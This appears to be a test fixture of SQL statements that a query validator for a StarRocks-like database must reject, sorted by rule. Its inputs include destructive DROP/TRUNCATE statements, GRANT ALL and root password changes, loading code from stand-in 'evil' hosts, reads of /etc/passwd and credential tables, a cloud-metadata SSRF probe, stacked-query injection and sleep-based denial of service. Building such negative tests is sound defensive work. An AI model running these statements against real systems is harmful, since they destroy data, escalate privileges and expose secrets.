-- Statements that must not pass, one per paragraph. `-- rule: NAME` names the rule that has to refuse the lines after it.
-- rule: statement
INSERT INTO byoc.clusters VALUES ('x')
INSERT INTO byoc.clusters SELECT * FROM byoc.clusters
INSERT OVERWRITE byoc.clusters SELECT * FROM byoc.clusters
UPDATE byoc.clusters SET deleted = TRUE WHERE biz_id = 'x'
UPDATE information_schema.be_configs SET value = '1' WHERE name = 'x'
DELETE FROM byoc.clusters WHERE TRUE
TRUNCATE TABLE byoc.clusters
DROP TABLE byoc.clusters
DROP DATABASE byoc FORCE
DROP VIEW metrics.v_customer_key_v2
CREATE TABLE byoc.x (a INT)
CREATE TABLE byoc.x AS SELECT * FROM byoc.clusters
CREATE VIEW byoc.x AS SELECT 1
CREATE MATERIALIZED VIEW byoc.x AS SELECT 1
CREATE USER eve IDENTIFIED BY 'x'
CREATE EXTERNAL CATALOG evil PROPERTIES ('type' = 'jdbc')
CREATE FUNCTION f(INT) RETURNS INT PROPERTIES ('file' = 'http://evil/x.jar')
CREATE RESOURCE GROUP rg TO (user='x') WITH ('cpu_weight' = '1')
ALTER TABLE byoc.clusters ADD COLUMN x INT
ALTER USER root IDENTIFIED BY 'x'
GRANT ALL ON *.* TO 'eve'
REVOKE SELECT ON byoc.clusters FROM USER eve
SET query_timeout = 259200
SET GLOBAL query_timeout = 259200
SET PASSWORD = PASSWORD('x')
SET ROLE ALL
SET @a = 1
SET sql_dialect = 'trino'
USE byoc
USE 'hive.db'
KILL 5
KILL QUERY 5
ANALYZE TABLE byoc.clusters
REFRESH MATERIALIZED VIEW byoc.x
REFRESH EXTERNAL TABLE byoc.x
EXPORT TABLE byoc.clusters TO 's3://x/'
ADMIN SET FRONTEND CONFIG ('x' = 'y')
ADMIN SHOW FRONTEND CONFIG
CALL p()
COMMIT
BEGIN
ROLLBACK
INSTALL PLUGIN FROM 'http://evil/x.zip'
COPY byoc.clusters TO 's3://x'
MERGE INTO byoc.clusters USING byoc.accounts ON TRUE WHEN MATCHED THEN DELETE
WITH a AS (SELECT 1) DELETE FROM byoc.clusters WHERE TRUE
WITH a AS (SELECT 1) UPDATE byoc.clusters SET deleted = TRUE
WITH a AS (SELECT 1) INSERT INTO byoc.clusters SELECT * FROM a
PREPARE s FROM 'DROP TABLE byoc.clusters'
EXECUTE s
-- rule: one_statement
SELECT 1; SELECT 2
SELECT 1; DROP TABLE byoc.clusters
SELECT 1;;; DELETE FROM byoc.clusters
DROP TABLE byoc.clusters; SELECT 1
;
-- nothing but a comment
-- rule: parse
SELECT 1 # comment
SELECT 1 #; DROP TABLE byoc.clusters
SELECT FROM WHERE
LOAD DATA INFILE '/etc/passwd' INTO TABLE byoc.clusters
SELECT * FROM byoc.clusters MATCH_RECOGNIZE (PATTERN (a) DEFINE a AS TRUE)
SELECT biz_id FROM byoc.clusters INTO OUTFILE 's3://x/'
SELECT biz_id INTO OUTFILE 's3://x/' FROM byoc.clusters
SELECT biz_id INTO/**/OUTFILE 's3://x/' FROM byoc.clusters
SELECT biz_id FROM byoc.clusters WHERE
SELECT (1
SELECT 'unclosed
SELECT 1)
-- rule: hints
SELECT a.biz_id FROM byoc.clusters a JOIN [broadcast] byoc.accounts b ON a.account_id = b.biz_id
SELECT a.biz_id FROM byoc.clusters a JOIN [shuffle] byoc.accounts b ON a.account_id = b.biz_id
SELECT a.biz_id FROM byoc.clusters a LEFT JOIN [bucket] byoc.accounts b ON a.account_id = b.biz_id
SELECT a.biz_id FROM byoc.clusters a JOIN[colocate] byoc.accounts b ON a.account_id = b.biz_id
-- rule: node
SELECT /*+ SET_VAR(query_timeout = 259200) */ biz_id FROM byoc.clusters
SELECT /*+ SET_VAR(resource_group = 'big') */ 1
SELECT /*+ SET_USER_VARIABLE(@a = 1) */ 1
SELECT /*+ BROADCAST(a) */ 1 FROM byoc.clusters a
SELECT * FROM (SELECT /*+ SET_VAR(query_mem_limit = 0) */ biz_id FROM byoc.clusters) t
SELECT biz_id FROM byoc.clusters FOR UPDATE
SELECT biz_id FROM byoc.clusters LOCK IN SHARE MODE
SELECT biz_id INTO x FROM byoc.clusters
SELECT @@version
SELECT @@global.query_timeout
SELECT @a
SELECT @a := 1
SELECT ?
SELECT biz_id FROM byoc.clusters WHERE biz_id = :x
SELECT * FROM byoc.clusters TABLESAMPLE (10 PERCENT)
SELECT * FROM byoc.clusters PARTITION (p1)
SELECT * FROM byoc.clusters PIVOT (COUNT(biz_id) FOR cluster_type IN ('CLASSIC'))
SELECT * FROM TABLE(generate_series(1, 1000000000))
SELECT * FROM generate_series(1, 1000000000)
SELECT * FROM TABLE(hive.native_query('drop table x'))
SELECT biz_id FROM byoc.clusters USE INDEX (x)
SELECT * FROM byoc.clusters FOR SYSTEM_TIME AS OF '2026-01-01'
SELECT * FROM byoc.clusters FETCH FIRST 5 ROWS ONLY
SELECT biz_id FROM byoc.clusters CLUSTER BY biz_id
SELECT biz_id FROM byoc.clusters DISTRIBUTE BY biz_id
SELECT biz_id FROM byoc.clusters CONNECT BY biz_id = account_id
SELECT INTERVAL '1' YEAR TO MONTH
-- rule: function
SELECT SLEEP(10)
SELECT sleep(1) FROM byoc.clusters
SELECT * FROM byoc.clusters WHERE SLEEP(10) = 0
SELECT biz_id FROM byoc.clusters ORDER BY sleep(1)
SELECT (SELECT SLEEP(3))
SELECT COUNT(*) OVER (PARTITION BY sleep(1)) FROM byoc.clusters
SELECT `sleep`(1)
SELECT BENCHMARK(1000000000, MD5('x'))
SELECT * FROM FILES('path' = 's3://x/', 'format' = 'parquet')
SELECT * FROM FILES('path' = 'file:///etc/passwd', 'format' = 'csv')
SELECT HTTP_REQUEST('http://169.254.169.254/')
SELECT AI_QUERY('x')
SELECT RAISE_ERROR('x')
SELECT ASSERT_TRUE(FALSE)
SELECT GET_QUERY_DUMP('SELECT 1')
SELECT GET_QUERY_PROFILE('x')
SELECT LAST_QUERY_ID()
SELECT INSPECT_MV_META('x')
SELECT INSPECT_ALL_PIPES()
SELECT LOOKUP_STRING('a', 'b', 'c')
SELECT DICT_MAPPING('a', 'b')
SELECT DICTIONARY_GET('a', 'b')
SELECT ESQUERY(biz_id, '{}') FROM byoc.clusters
SELECT HOST_NAME()
SELECT USER()
SELECT CURRENT_USER()
SELECT CURRENT_ROLE()
SELECT SESSION_USER()
SELECT DATABASE()
SELECT SCHEMA()
SELECT VERSION()
SELECT CURRENT_VERSION()
SELECT CONNECTION_ID()
SELECT CATALOG()
SELECT REPEAT('x', 1000000000)
SELECT SPACE(1000000000)
SELECT ARRAY_REPEAT('x', 1000000000)
SELECT ARRAY_GENERATE(1, 1000000000)
SELECT LENGTH(REPEAT('x', 1000000000))
SELECT AES_DECRYPT('a', 'b')
SELECT LOAD_FILE('/etc/passwd')
SELECT byoc.my_udf(1)
SELECT my_udf(biz_id) FROM byoc.clusters
SELECT read_csv('/etc/passwd')
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM duckdb_settings()
SELECT getenv('HOME')
SELECT pg_sleep(1)
-- rule: table
SELECT * FROM clusters
SELECT * FROM byoc.cluster
SELECT * FROM byoc.CLUSTERS
SELECT * FROM mysql.user
SELECT * FROM information_schema.tables
SELECT * FROM information_schema.be_configs
SELECT * FROM information_schema.loads
SELECT * FROM sys.grants_to_users
SELECT * FROM _statistics_.query_history
SELECT * FROM starrocks_audit_db__.starrocks_audit_tbl__
SELECT * FROM secrets.keys
SELECT biz_id FROM byoc.clusters UNION ALL SELECT user FROM mysql.user
SELECT * FROM byoc.clusters WHERE biz_id IN (SELECT user FROM mysql.user)
WITH a AS (SELECT * FROM mysql.user) SELECT * FROM a
WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a
WITH a AS (SELECT * FROM a) SELECT * FROM a
SELECT * FROM (WITH a AS (SELECT 1) SELECT * FROM a) x JOIN a ON a.b = x.b
WITH clusters AS (SELECT 1 AS x) SELECT * FROM byoc.cluster_infos
SELECT (SELECT COUNT(*) FROM mysql.user)
SELECT CASE WHEN EXISTS (SELECT 1 FROM mysql.user) THEN 1 ELSE 0 END
-- rule: catalog
SELECT * FROM hive.db.t
SELECT * FROM jdbc_catalog.byoc.clusters
SELECT * FROM iceberg.metrics.amv_hourly_snapshots_v1
-- rule: table_function
SELECT * FROM a.b.c.d
-- rule: join
SELECT * FROM byoc.clusters, byoc.accounts
SELECT * FROM byoc.clusters a, byoc.accounts b WHERE a.account_id = b.biz_id
SELECT * FROM byoc.clusters CROSS JOIN byoc.accounts
SELECT * FROM byoc.clusters a JOIN byoc.accounts b
SELECT * FROM byoc.clusters a JOIN byoc.accounts b ON TRUE
SELECT * FROM byoc.clusters a JOIN byoc.accounts b ON 1 = 1
SELECT * FROM byoc.clusters a JOIN byoc.accounts b ON a.biz_id = a.biz_id
SELECT * FROM byoc.clusters a JOIN byoc.accounts b ON a.biz_id = 'x'
SELECT * FROM byoc.clusters a JOIN byoc.accounts b ON a.account_id = b.biz_id OR TRUE
SELECT * FROM byoc.clusters a LEFT JOIN byoc.accounts b ON b.state = 1
SELECT * FROM byoc.clusters a CROSS JOIN (SELECT biz_id FROM byoc.accounts) b
SELECT * FROM byoc.clusters a CROSS JOIN (SELECT state, COUNT(*) FROM byoc.accounts GROUP BY state) b
SELECT * FROM byoc.clusters a CROSS JOIN (SELECT COUNT(*) OVER () FROM byoc.accounts) b
WITH x AS (SELECT biz_id FROM byoc.accounts) SELECT * FROM byoc.clusters CROSS JOIN x
SELECT * FROM byoc.clusters NATURAL JOIN byoc.cluster_info
-- rule: recursion
WITH RECURSIVE a AS (SELECT 1 AS x UNION ALL SELECT x + 1 FROM a) SELECT * FROM a
-- rule: columns
SELECT
SELECT FROM byoc.clusters
SELECT 1 UNION SELECT
SELECT * FROM (SELECT) x
-- rule: modifiers
SELECT HIGH_PRIORITY biz_id FROM byoc.clusters
SELECT SQL_NO_CACHE biz_id FROM byoc.clusters
SELECT SQL_CALC_FOUND_ROWS biz_id FROM byoc.clusters
-- rule: group_concat
SELECT GROUP_CONCAT(cluster_name, '|') FROM byoc.clusters
SELECT GROUP_CONCAT(cluster_name, ', ') FROM byoc.clusters
-- rule: limit
SELECT * FROM byoc.clusters LIMIT 1 + 1
SELECT * FROM byoc.clusters LIMIT '5'
SELECT * FROM byoc.clusters LIMIT 5 OFFSET (SELECT 1)
-- rule: rendering
SELECT biz_id FROM byoc.clusters ORDER BY 1 NULLS LAST
-- rule: metadata
SHOW TABLES
SHOW PROCESSLIST
SHOW FULL PROCESSLIST
SHOW GRANTS
SHOW GRANTS FOR root
SHOW VARIABLES
SHOW GLOBAL VARIABLES LIKE '%timeout%'
SHOW PROC '/current_queries'
SHOW PROC '/'
SHOW BACKENDS
SHOW USERS
SHOW ROLES
SHOW AUTHENTICATION
SHOW CATALOGS
SHOW CREATE CATALOG hive
SHOW RESOURCES
SHOW REPOSITORIES
SHOW LOAD FROM byoc
SHOW ROUTINE LOAD
SHOW PROFILELIST
SHOW RUNNING QUERIES
SHOW FUNCTIONS
SHOW WARNINGS
SHOW TABLES FROM byoc WHERE 1 = 1
SHOW TABLES FROM byoc LIKE 'a'' OR 1'
SHOW TABLES FROM byoc LIKE 'a\\'
SHOW TABLES FROM hive.db
SHOW TABLES FROM byoc; DROP TABLE byoc.clusters
SHOW TABLES FROM byoc INTO OUTFILE 's3://x/'
SHOW COLUMNS FROM clusters
SHOW COLUMNS FROM byoc.clusters WHERE sleep(9)
SHOW CREATE TABLE byoc.clusters; SELECT 1
SHOW CREATE USER root
SHOW DATABASES FROM hive
SHOW PARTITIONS FROM byoc.clusters WHERE PartitionName = 'x'
DESC clusters
DESC byoc.clusters biz_id
DESC FILES('path' = 's3://x/', 'format' = 'parquet')
DESCRIBE STORAGE VOLUME x
EXPLAIN ANALYZE SELECT 1
EXPLAIN ANALYZE INSERT INTO byoc.clusters SELECT 1
EXPLAIN ANALYZE DELETE FROM byoc.clusters WHERE TRUE
EXPLAIN DELETE FROM byoc.clusters WHERE TRUE
EXPLAIN INSERT INTO byoc.clusters SELECT * FROM byoc.clusters
EXPLAIN UPDATE byoc.clusters SET deleted = TRUE
EXPLAIN REFRESH MATERIALIZED VIEW byoc.x
EXPLAIN VERBOSE DELETE FROM byoc.clusters WHERE TRUE
EXPLAIN EXPLAIN SELECT 1
EXPLAIN byoc.clusters
EXPLAIN/**/ANALYZE SELECT 1
-- rule: source
SELECT * FROM byoc.clusters c, LATERAL SPLIT(c.biz_id, ',') AS t
SELECT * FROM byoc.clusters [_META_]
SELECT COUNT(*) FROM byoc.clusters c JOIN byoc.accounts [_META_] ON c.account_id = 1
-- rule: map
SELECT MAP<STRING, INT>{'a': 1}
SELECT {'a': 1}
-- rule: depth
SELECT (((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1
SELECT a[1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1][1] FROM byoc.clusters
-- rule: statement
SYNC
CACHE SELECT * FROM byoc.clusters
SUBMIT TASK AS INSERT INTO byoc.clusters SELECT 1
EXECUTE AS root WITH NO REVERT
ALTER SYSTEM ADD BACKEND 'evil:9050'
CANCEL LOAD FROM byoc
CREATE PIPE p AS INSERT INTO byoc.clusters SELECT * FROM FILES('path' = 's3://x/')
BACKUP SNAPSHOT byoc.x TO repo
ADD SQLBLACKLIST "x"
-- rule: parse
SELECT biz_id FROM byoc.clusters TEMPORARY PARTITION (p1)
SELECT biz_id FROM byoc.clusters WHERE biz_id MATCH account_id
SELECT biz_id FROM byoc.clusters WHERE biz_id MATCH 'x' + 1
SELECT biz_id FROM/* twice */FROM byoc.clusters
FROM FROM byoc.clusters
SELECT biz_id FROM byoc.clusters WHERE biz_id MATCH_ALL 'x' 'y'
SELECT biz_id FROM byoc.clusters WHERE biz_id MATCH 'x' ESCAPE '!'
SELECT biz_id FROM byoc.clusters WHERE biz_id MATCH MATCH 'x'
SELECT biz_id FROM byoc.clusters WHERE MATCH 'x'
SELECT biz_id FROM byoc.clusters WHERE biz_id `MATCH` 'x'
SELECT biz_id FROM byoc.clusters WHERE biz_id GLOB 'x'
SELECT biz_id FROM byoc.clusters WHERE biz_id OVERLAPS 'x'
SELECT biz_id FROM byoc.clusters WHERE biz_id -|- 'x'
-- rule: function
SELECT * FROM byoc.clusters, LATERAL MY_UDTF(biz_id) AS t
SELECT * FROM byoc.clusters c, LATERAL UNNEST_BITMAP(c.biz_id) AS t
SELECT biz_id FROM byoc.clusters WHERE MATCH(biz_id) AGAINST ('x')
-- rule: hints
SELECT SUM(biz_id) OVER ([hash] PARTITION BY biz_id) FROM byoc.clusters
-- rule: distinct
SELECT DISTINCT ON (account_id) biz_id FROM byoc.clusters
